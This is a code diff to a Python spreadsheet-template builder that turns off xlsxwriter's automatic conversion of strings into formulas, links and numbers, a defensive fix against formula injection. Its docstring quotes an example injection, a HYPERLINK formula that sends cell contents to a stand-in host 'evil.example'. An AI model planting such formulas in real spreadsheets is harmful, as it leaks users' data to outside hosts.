@@ -19,6 +19,14 @@ FIXED_DATE = dt.datetime(2025, 1, 1)
 EMPTY_ROWS = 30
 """Formatted, empty measure rows under the instruction row of each area sheet."""
 
+TEXTS_STAY_TEXTS = {"strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False}
+"""xlsxwriter options for every workbook xlplan creates (this template, the city workbook): texts are written as text.
+
+By default xlsxwriter turns a string starting with "=" into a live formula (a
+plan cell ``=HYPERLINK("http://evil.example/?leak="&A1,…)``, or a district
+named "=…", would then run) and one starting with "http://" into a link.
+"""
+
 HEADER_FILL = "#1F4E79"
 INSTRUCTION_FILL = "#DDEBF7"
 
@@ -46,7 +54,7 @@ def build_template(
     struct = struct or structure()
     path = Path(path)
     year = year if year is not None else struct.version
-    wb = xlsxwriter.Workbook(str(path), {"strings_to_urls": False, "strings_to_numbers": False})
+    wb = xlsxwriter.Workbook(str(path), dict(TEXTS_STAY_TEXTS))
     title = plan_title(struct, year, district)
     wb.set_properties({
         "title": title,
